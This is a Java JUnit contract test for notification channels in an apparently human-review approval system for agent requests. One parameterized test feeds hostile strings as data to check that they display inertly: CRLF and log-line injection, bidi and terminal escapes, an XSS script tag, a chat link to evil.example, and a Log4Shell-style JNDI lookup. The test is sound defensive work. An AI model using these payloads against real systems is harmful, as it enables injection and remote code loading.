package io.holdpoint.notifiers;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import io.holdpoint.model.AgentId;
import io.holdpoint.model.Basis;
import io.holdpoint.model.RequestId;
import io.holdpoint.model.RequestStatus;
import io.holdpoint.model.Target;
import io.holdpoint.model.Verdict;
import io.holdpoint.model.desk.RequestSummary;
import io.holdpoint.model.notice.Notice;
import io.holdpoint.model.notice.NotificationChannel;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.UUID;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What every channel must hold. A channel's test extends this, hands over the channel wired to
 * something that the test can look into, and adds what is its own.
 */
public abstract class NotificationChannelContract {

  protected static final RequestId REQUEST =
      new RequestId(UUID.fromString("0193e7a0-0000-7000-8000-000000000001"));

  private static final String LINK = "https://holdpoint.example.org/requests/" + REQUEST;

  /** The channel under test; always the same one within a test. */
  protected abstract NotificationChannel channel();

  /** What people were told so far, as they receive it, oldest first. */
  protected abstract List<String> told();

  /** Whether a message lets hostile text act instead of being shown; channels differ in how. */
  protected abstract boolean isContained(String message);

  @Test
  void hasAShortStableName() {
    assertThat(channel().name()).matches("[a-z-]{1,64}").isEqualTo(channel().name());
  }

  @ParameterizedTest
  @EnumSource(Notice.Kind.class)
  void tellsEveryKindOfNotice(Notice.Kind kind) {
    channel().tell(notice(kind, "crm.customers.delete"));
    assertThat(told()).hasSize(1);
    assertThat(told().get(0)).contains(REQUEST.toString()).contains(LINK);
  }

  @Test
  void tellingTwiceDoesNoHarm() {
    Notice notice = notice(Notice.Kind.HELD, "crm.customers.delete");
    channel().tell(notice);
    assertThatCode(() -> channel().tell(notice)).doesNotThrowAnyException();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a\nnotice=verdict status=approved",
        "a\r\nSet-Cookie: x",
        "a\u2028b\u2029c\u0085d",
        "\u202Eevil\u202C",
        "\u001B[2J\u001B]0;x\u0007",
        "\" status=approved why=\"",
        "<script>alert(1)</script>",
        "*bold* <!channel> <https://evil.example|approve>",
        "${jndi:ldap://evil.example/a} %s {}",
        "\uD800"
      })
  void hostileTextIsShownAndDoesNothing(String hostile) {
    channel().tell(notice(Notice.Kind.HELD, hostile));
    assertThat(told()).isNotEmpty().allMatch(this::isContained);
  }

  @Test
  void endlessTextIsCut() {
    channel().tell(notice(Notice.Kind.HELD, "x".repeat(200_000)));
    assertThat(told().get(0).length()).isLessThan(10_000);
  }

  @Test
  void tellsFromManyThreadsAtOnce() {
    IntStream.range(0, 50)
        .parallel()
        .forEach(i -> channel().tell(notice(Notice.Kind.REMINDER, "tool-" + i)));
    assertThat(told()).hasSize(50);
  }

  /** A notice whose every text that an agent may have written is {@code text}. */
  protected static Notice notice(Notice.Kind kind, String text) {
    boolean over = kind == Notice.Kind.VERDICT;
    Instant created = Instant.parse("2026-01-02T03:04:05Z");
    return new Notice(
        kind,
        new RequestSummary(
            REQUEST,
            new AgentId("support-bot"),
            text,
            new Target(text, text, text),
            text,
            over ? RequestStatus.DENIED : RequestStatus.PENDING,
            "sensitive",
            "Deletes need a person",
            created,
            created.plusSeconds(3600),
            over ? Optional.of(created.plusSeconds(60)) : Optional.empty(),
            over
                ? Optional.of(new Verdict(RequestStatus.DENIED, Basis.REVIEWERS, text))
                : Optional.empty(),
            0,
            1),
        List.of("reviewers"),
        LINK);
  }
}
